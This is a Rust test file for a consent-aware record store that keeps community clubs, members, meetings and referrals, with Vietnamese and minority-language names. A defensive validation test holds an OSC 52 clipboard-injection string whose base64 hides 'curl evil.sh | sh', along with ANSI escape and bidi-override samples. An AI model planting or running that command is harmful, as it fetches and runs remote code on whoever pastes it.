//! Round trips of every record kind, validation errors, who-and-when stamps.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use chrono::{Datelike, Duration};
use chungtay_core::*;
use common::*;

fn invalid_field(err: Error) -> (&'static str, Reason) {
    match err {
        Error::Invalid(v) => (v.field, v.reason),
        other => panic!("expected a validation error, got {other:?}"),
    }
}

#[test]
fn every_record_kind_round_trips_through_a_reopen() {
    let mut f = Fixture::new();
    let leader = f.leader_id();
    let club = f.store.add_club(&club_input()).unwrap();
    let hoa = f
        .store
        .add_member(&club.id, &member_input("Vi Thị Hoa", "Thái", "Bản Chai"))
        .unwrap();
    let pó = f
        .store
        .add_member(&club.id, &member_input("Vàng A Pó", "Mông", "Bản Ón"))
        .unwrap();
    let consent = f.store.add_consent(&consent_input(&hoa.id)).unwrap();
    let meeting = f
        .store
        .record_meeting(&meeting_input(
            &club.id,
            vec![hoa.id.clone(), pó.id.clone()],
        ))
        .unwrap();
    let support = f
        .store
        .add_livelihood(&LivelihoodInput {
            member_id: hoa.id.clone(),
            kind: LivelihoodKind::Livestock,
            date: days_ago(30),
            amount_vnd: None,
            quantity: Some(2),
            unit: Some("con lợn".into()),
            note: "Hỗ trợ từ tổ hợp tác".into(),
        })
        .unwrap();
    let support = f
        .store
        .add_livelihood_follow_up(
            &support.id,
            &SupportFollowUp {
                date: days_ago(2),
                outcome: Outcome::EarningIncome,
                note: "Lợn khỏe, đã bán 1 lứa".into(),
            },
        )
        .unwrap();
    let referral = f
        .store
        .create_referral(&referral_input(&hoa.id, Some(&consent.id)))
        .unwrap();
    let referral = f.store.mark_referral_ready(&referral.id).unwrap();

    f.reopen();
    let s = &f.store;
    assert_eq!(s.club(&club.id).unwrap(), club);
    assert_eq!(s.clubs().unwrap(), vec![club.clone()]);
    assert_eq!(s.member(&hoa.id).unwrap(), hoa);
    assert_eq!(s.member(&pó.id).unwrap().info.full_name, "Vàng A Pó");
    assert_eq!(s.consent(&consent.id).unwrap(), consent);
    assert_eq!(s.consents_for(&hoa.id).unwrap(), vec![consent.clone()]);
    assert_eq!(s.meeting(&meeting.id).unwrap(), meeting);
    assert_eq!(s.meetings(&club.id).unwrap(), vec![meeting.clone()]);
    assert_eq!(s.livelihood_for(&hoa.id).unwrap(), vec![support.clone()]);
    assert_eq!(support.follow_ups.len(), 1);
    assert_eq!(s.referral(&referral.id).unwrap(), referral);
    assert_eq!(referral.state, ReferralState::Ready);
    assert_eq!(
        referral.history.iter().map(|h| h.state).collect::<Vec<_>>(),
        vec![ReferralState::Draft, ReferralState::Ready]
    );
    // Who and when, on every record.
    for stamp in [&club.stamp, &hoa.stamp, &meeting.stamp, &consent.stamp] {
        assert_eq!(stamp.created_by, leader);
        assert!(Utc::now() - stamp.created_at < Duration::minutes(5));
    }
}

use chrono::Utc;

#[test]
fn updates_keep_creator_and_record_who_changed() {
    let mut f = Fixture::new();
    let club = f.store.add_club(&club_input()).unwrap();
    let m = f
        .store
        .add_member(&club.id, &member_input("Hà Thị Ơn", "Mường", "Bản Chai"))
        .unwrap();
    let deputy = add_deputy(&mut f.store);
    f.store.lock();
    f.store.unlock(&deputy.id, "853190").unwrap();
    let mut changed = m.info.clone();
    changed.village = "Bản Ón".into();
    changed.safe_to_contact = false;
    let updated = f.store.update_member(&m.id, &changed).unwrap();
    assert_eq!(updated.stamp.created_by, m.stamp.created_by);
    assert_eq!(updated.stamp.created_at, m.stamp.created_at);
    assert_eq!(updated.stamp.updated_by, deputy.id);
    assert!(updated.stamp.updated_at >= m.stamp.updated_at);
    assert_eq!(f.store.member(&m.id).unwrap().info.village, "Bản Ón");
    // The list now hides the phone, since contact is unsafe.
    let listed = f.store.list_members(&club.id).unwrap();
    assert_eq!(listed[0].phone, None);
    assert!(!listed[0].safe_to_contact);
}

#[test]
fn text_is_stored_nfc_and_trimmed() {
    let mut f = Fixture::new();
    let club = f.store.add_club(&club_input()).unwrap();
    let nfd: String = unicode_nfd("Nguyễn  Thị   Hoa ");
    assert_ne!(nfd, "Nguyễn Thị Hoa");
    let m = f
        .store
        .add_member(&club.id, &member_input(&nfd, "Kinh", "Xóm 2"))
        .unwrap();
    assert_eq!(m.info.full_name, "Nguyễn Thị Hoa");
    f.reopen();
    assert_eq!(
        f.store.member(&m.id).unwrap().info.full_name,
        "Nguyễn Thị Hoa"
    );
}

fn unicode_nfd(s: &str) -> String {
    use unicode_normalization::UnicodeNormalization;
    s.nfd().collect()
}

#[test]
fn validation_errors_name_the_field() {
    let mut f = Fixture::new();
    let club = f.store.add_club(&club_input()).unwrap();
    let other_club = f.store.add_club(&club_input()).unwrap();

    let mut empty = member_input("   ", "Thái", "Bản Chai");
    let (field, reason) = invalid_field(f.store.add_member(&club.id, &empty).unwrap_err());
    assert_eq!((field, reason), ("full_name", Reason::Empty));

    empty = member_input("Vi Thị Hoa", "Thái", "Bản Chai");
    empty.birth_year = Some(today().year() + 1);
    let (field, reason) = invalid_field(f.store.add_member(&club.id, &empty).unwrap_err());
    assert_eq!((field, reason), ("birth_year", Reason::InFuture));

    let err = EthnicGroup::from_name("Người Sao Hỏa").unwrap_err();
    assert_eq!(
        (err.field, err.reason),
        ("ethnic_group", Reason::UnknownEthnicGroup)
    );
    assert!(EthnicGroup::from_code(99).is_err());

    let outsider = f
        .store
        .add_member(
            &other_club.id,
            &member_input("Lữ Thị Xuân", "Thái", "Bản Ón"),
        )
        .unwrap();
    let insider = f
        .store
        .add_member(&club.id, &member_input("Vi Thị Hoa", "Thái", "Bản Chai"))
        .unwrap();
    let (field, reason) = invalid_field(
        f.store
            .record_meeting(&meeting_input(
                &club.id,
                vec![insider.id.clone(), outsider.id.clone()],
            ))
            .unwrap_err(),
    );
    assert_eq!(field, "attendees");
    assert_eq!(
        reason,
        Reason::NotClubMember {
            member_id: outsider.id.clone()
        }
    );
    let (field, _) = invalid_field(
        f.store
            .record_meeting(&meeting_input(
                &club.id,
                vec![insider.id.clone(), insider.id.clone()],
            ))
            .unwrap_err(),
    );
    assert_eq!(field, "attendees");
    let mut future = meeting_input(&club.id, vec![]);
    future.date = today() + Duration::days(2);
    assert_eq!(
        invalid_field(f.store.record_meeting(&future).unwrap_err()),
        ("date", Reason::InFuture)
    );

    let mut verbal = consent_input(&insider.id);
    verbal.method = ConsentMethod::VerbalWithWitness;
    assert_eq!(
        invalid_field(f.store.add_consent(&verbal).unwrap_err()),
        ("witness", Reason::Missing)
    );

    let support = LivelihoodInput {
        member_id: insider.id.clone(),
        kind: LivelihoodKind::SeedCapital,
        date: days_ago(1),
        amount_vnd: Some(-5),
        quantity: None,
        unit: None,
        note: String::new(),
    };
    assert_eq!(
        invalid_field(f.store.add_livelihood(&support).unwrap_err()),
        ("amount_vnd", Reason::Negative)
    );

    // Nothing of the refused inputs was stored.
    assert_eq!(f.store.member_count().unwrap(), 2);
    assert!(f.store.meetings(&club.id).unwrap().is_empty());
    assert!(f.store.consents_for(&insider.id).unwrap().is_empty());
}

#[test]
fn referral_needs_consent_covering_purpose_recipient_and_fields() {
    let mut f = Fixture::new();
    let club = f.store.add_club(&club_input()).unwrap();
    let hoa = f
        .store
        .add_member(&club.id, &member_input("Vi Thị Hoa", "Thái", "Bản Chai"))
        .unwrap();
    let other = f
        .store
        .add_member(&club.id, &member_input("Lò Thị Mai", "Thái", "Bản Chai"))
        .unwrap();

    // No consent at all.
    let r = f
        .store
        .create_referral(&referral_input(&hoa.id, None))
        .unwrap();
    assert_eq!(r.state, ReferralState::Draft);
    assert_eq!(
        invalid_field(f.store.mark_referral_ready(&r.id).unwrap_err()),
        ("consent", Reason::NoConsent)
    );

    let consent = f.store.add_consent(&consent_input(&hoa.id)).unwrap();
    let not_covered = |f: &mut Fixture, input: ReferralInput| {
        let r = f.store.create_referral(&input).unwrap();
        invalid_field(f.store.mark_referral_ready(&r.id).unwrap_err())
    };
    // A purpose she did not agree to.
    let mut input = referral_input(&hoa.id, Some(&consent.id));
    input.services.push(SupportService::SafeAccommodation);
    let (field, reason) = not_covered(&mut f, input);
    assert_eq!(field, "consent");
    assert!(matches!(reason, Reason::NotCovered { what } if what.contains("SafeAccommodation")));
    // Another recipient.
    let mut input = referral_input(&hoa.id, Some(&consent.id));
    input.recipient = Recipient::CommuneUnion;
    let (_, reason) = not_covered(&mut f, input);
    assert!(matches!(reason, Reason::NotCovered { what } if what.contains("recipient")));
    // Her story was not consented.
    let mut input = referral_input(&hoa.id, Some(&consent.id));
    input.shared_fields.push(SharedField::Story);
    let (_, reason) = not_covered(&mut f, input);
    assert!(matches!(reason, Reason::NotCovered { what } if what.contains("Story")));
    // Someone else's consent.
    let (_, reason) = not_covered(&mut f, referral_input(&other.id, Some(&consent.id)));
    assert_eq!(reason, Reason::ConsentForOtherMember);

    // Covered: ready. Withdrawing consent then stops it.
    let ok = f
        .store
        .create_referral(&referral_input(&hoa.id, Some(&consent.id)))
        .unwrap();
    let ok = f.store.mark_referral_ready(&ok.id).unwrap();
    assert_eq!(ok.state, ReferralState::Ready);
    f.store.withdraw_consent(&consent.id, today()).unwrap();
    let stopped = f.store.referral(&ok.id).unwrap();
    assert_eq!(stopped.state, ReferralState::Withdrawn);
    assert_eq!(stopped.history.last().unwrap().note, "consent withdrawn");
    // And nothing new can be made ready on withdrawn consent.
    let late = f
        .store
        .create_referral(&referral_input(&hoa.id, Some(&consent.id)))
        .unwrap();
    assert_eq!(
        invalid_field(f.store.mark_referral_ready(&late.id).unwrap_err()),
        ("consent", Reason::ConsentWithdrawn)
    );
    // Finished referrals cannot move.
    assert!(matches!(
        f.store.withdraw_referral(&ok.id, "").unwrap_err(),
        Error::Invalid(_)
    ));
}

#[test]
fn missing_records_are_not_found_and_locked_store_refuses() {
    let mut f = Fixture::new();
    let club = f.store.add_club(&club_input()).unwrap();
    assert!(matches!(
        f.store.member("00000000-0000-4000-8000-000000000000"),
        Err(Error::NotFound {
            kind: RecordKind::Member,
            ..
        })
    ));
    assert!(matches!(
        f.store
            .add_member("no-such-club", &member_input("A Lù", "Mông", "Bản Ón")),
        Err(Error::NotFound {
            kind: RecordKind::Club,
            ..
        })
    ));
    f.store.lock();
    assert!(matches!(f.store.club(&club.id), Err(Error::Locked)));
    assert!(matches!(
        f.store.add_club(&club_input()),
        Err(Error::Locked)
    ));
    assert!(matches!(f.store.list_members(&club.id), Err(Error::Locked)));
}

/// What an attacker types into a name or a note so that whoever prints it runs it: an OSC 52
/// clipboard write, a colour change, a right-to-left override that shows "Hoa" for "aoH".
const OSC52: &str = "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}";

#[test]
fn control_bidi_and_invisible_characters_are_refused_in_every_text_field() {
    let mut f = Fixture::new();
    let club = f.store.add_club(&club_input()).unwrap();
    let hoa = f
        .store
        .add_member(&club.id, &member_input("Vi Thị Hoa", "Thái", "Bản Chai"))
        .unwrap();
    let reason_of = invalid_field;

    // Single-line fields: names, village, phone, topic, place, follow-up task.
    for bad in [
        format!("Vi Thị Hoa{OSC52}"),
        "Vi Thị \u{1b}[31mHoa".to_owned(),
        "Vi Thị Hoa\u{7f}".to_owned(),
        "Vi Thị Hoa\u{9b}31m".to_owned(),
        "Vi Thị \u{0}Hoa".to_owned(),
    ] {
        let input = member_input(&bad, "Thái", "Bản Chai");
        assert_eq!(
            reason_of(f.store.add_member(&club.id, &input).unwrap_err()),
            ("full_name", Reason::ControlCharacter),
            "{bad:?}"
        );
    }
    for bidi in [
        '\u{202e}', '\u{202a}', '\u{2066}', '\u{2069}', '\u{200f}', '\u{61c}',
    ] {
        let input = member_input("Vi Thị Hoa", "Thái", &format!("Bản {bidi}Chai"));
        assert_eq!(
            reason_of(f.store.add_member(&club.id, &input).unwrap_err()),
            ("village", Reason::BidiControl),
            "{bidi:?}"
        );
    }
    // Finding F: invisible fillers that make two names look the same are refused too.
    for hidden in [
        '\u{2060}',
        '\u{e0041}',
        '\u{3164}',
        '\u{115f}',
        '\u{1160}',
        '\u{34f}',
        '\u{17b4}',
        '\u{17b5}',
        '\u{180b}',
        '\u{180f}',
        '\u{200d}',
    ] {
        let mut input = member_input("Vi Thị Hoa", "Thái", "Bản Chai");
        input.phone = Some(format!("0912{hidden}345678"));
        assert_eq!(
            reason_of(f.store.add_member(&club.id, &input).unwrap_err()),
            ("phone", Reason::InvisibleCharacter),
            "{hidden:?}"
        );
    }
    let mut club_bad = club_input();
    club_bad.name = format!("CLB {OSC52}");
    assert_eq!(
        reason_of(f.store.add_club(&club_bad).unwrap_err()),
        ("name", Reason::ControlCharacter)
    );
    let mut meeting = meeting_input(&club.id, vec![hoa.id.clone()]);
    meeting.topic = "Di cư an toàn\u{202e}".into();
    assert_eq!(
        reason_of(f.store.record_meeting(&meeting).unwrap_err()),
        ("topic", Reason::BidiControl)
    );
    let mut meeting = meeting_input(&club.id, vec![hoa.id.clone()]);
    meeting.follow_ups = vec![FollowUp {
        task: format!("Gọi cho chị Hoa{OSC52}"),
        person: "Lò Thị Mai".into(),
        due: today(),
        done: false,
    }];
    assert_eq!(
        reason_of(f.store.record_meeting(&meeting).unwrap_err()),
        ("follow_ups.task", Reason::ControlCharacter)
    );

    // Multi-line fields: notes keep their line breaks and tabs, and nothing else of those.
    let mut meeting = meeting_input(&club.id, vec![hoa.id.clone()]);
    meeting.notes = format!("Họp chi hội\n{OSC52}");
    assert_eq!(
        reason_of(f.store.record_meeting(&meeting).unwrap_err()),
        ("notes", Reason::ControlCharacter)
    );
    meeting.notes = "Họp chi hội\u{2067}\n".into();
    assert_eq!(
        reason_of(f.store.record_meeting(&meeting).unwrap_err()),
        ("notes", Reason::BidiControl)
    );
    let mut referral = referral_input(&hoa.id, None);
    referral.note = "Muốn học may\u{1b}[2J".into();
    assert_eq!(
        reason_of(f.store.create_referral(&referral).unwrap_err()),
        ("note", Reason::ControlCharacter)
    );
    let r = f
        .store
        .create_referral(&referral_input(&hoa.id, None))
        .unwrap();
    assert_eq!(
        reason_of(f.store.withdraw_referral(&r.id, "rút\u{2060}").unwrap_err()),
        ("note", Reason::InvisibleCharacter)
    );

    // The message names the field and the problem, never the value.
    let err = f
        .store
        .add_member(
            &club.id,
            &member_input(&format!("Vi Thị Hoa{OSC52}"), "Thái", "Bản Chai"),
        )
        .unwrap_err()
        .to_string();
    assert!(!err.contains("Hoa") && !err.contains('\u{1b}'), "{err}");

    // Nothing refused was stored.
    assert_eq!(f.store.member_count().unwrap(), 1);
    assert!(f.store.meetings(&club.id).unwrap().is_empty());
}

#[test]
fn vietnamese_and_minority_language_text_is_kept() {
    let mut f = Fixture::new();
    let club = f.store.add_club(&club_input()).unwrap();
    // Vietnamese with every tone, in NFC and NFD; Hmong RPA (tone letters), Thái and Tày
    // names, Ê Đê and Ba Na letters with breves, apostrophes of Central Highlands names.
    let names = [
        "Nguyễn Thị Ngọc Ánh",
        "Đặng Thị Hằng Nga",
        "Trương Mỹ Lệ",
        "Vàng Thị Mỷ",
        "Tsab Xyooj Ntxawg",
        "Lò Văn Cầm",
        "Hoàng Thị Slao",
        "H’Năng Niê",
        "Y Ŏn Ksor",
        "Rơ Châm H'Lin",
        "Ka Ră Đơ Ĕ",
    ];
    for name in names {
        for input in [name.to_owned(), unicode_nfd(name)] {
            let m = f
                .store
                .add_member(&club.id, &member_input(&input, "Mông", "Bản Ón"))
                .unwrap_or_else(|e| panic!("{name}: {e}"));
            assert_eq!(m.info.full_name, name);
        }
    }
    let hoa = f
        .store
        .add_member(&club.id, &member_input("Vi Thị Hoa", "Thái", "Bản Chai"))
        .unwrap();
    let mut meeting = meeting_input(&club.id, vec![hoa.id.clone()]);
    meeting.notes = "Dòng một\nDòng hai:\tcó tab\r\nDòng ba".into();
    let meeting = f.store.record_meeting(&meeting).unwrap();
    assert_eq!(meeting.info.notes, "Dòng một\nDòng hai:\tcó tab\nDòng ba");
}

/// Finding F: what a phone keyboard or a paste puts in legitimately is kept or quietly cleaned,
/// not refused.
#[test]
fn emoji_sequences_are_kept_and_pasted_invisibles_are_dropped() {
    let mut f = Fixture::new();
    let club = f.store.add_club(&club_input()).unwrap();
    let hoa = f
        .store
        .add_member(&club.id, &member_input("Vi Thị Hoa", "Thái", "Bản Chai"))
        .unwrap();
    // A note with emoji joined by U+200D: a health worker, a family.
    let mut meeting = meeting_input(&club.id, vec![hoa.id.clone()]);
    meeting.notes =
        "Chị y tá 👩\u{200d}⚕\u{fe0f} đến nói chuyện\nGia đình 👨\u{200d}👩\u{200d}👧".into();
    let m = f.store.record_meeting(&meeting).unwrap();
    assert_eq!(f.store.meeting(&m.id).unwrap().info.notes, meeting.notes);
    // A name pasted from a chat app with a zero-width space, a BOM or a soft hyphen in it is
    // the name she sees: stored without them, equal to the typed one.
    for pasted in ["\u{200b}", "\u{feff}", "\u{ad}"] {
        let input = member_input(&format!("Lò Thị{pasted} Mai"), "Thái", "Bản Chai");
        let m = f.store.add_member(&club.id, &input).unwrap();
        assert_eq!(f.store.member(&m.id).unwrap().info.full_name, "Lò Thị Mai");
        let mut with_phone = member_input("Lò Thị Mai", "Thái", "Bản Chai");
        with_phone.phone = Some(format!("0912{pasted}345678"));
        let m = f.store.add_member(&club.id, &with_phone).unwrap();
        assert_eq!(
            f.store.member(&m.id).unwrap().info.phone.as_deref(),
            Some("0912345678")
        );
    }
    let r = f
        .store
        .create_referral(&referral_input(&hoa.id, None))
        .unwrap();
    f.store.withdraw_referral(&r.id, "rút\u{200b}").unwrap();
}
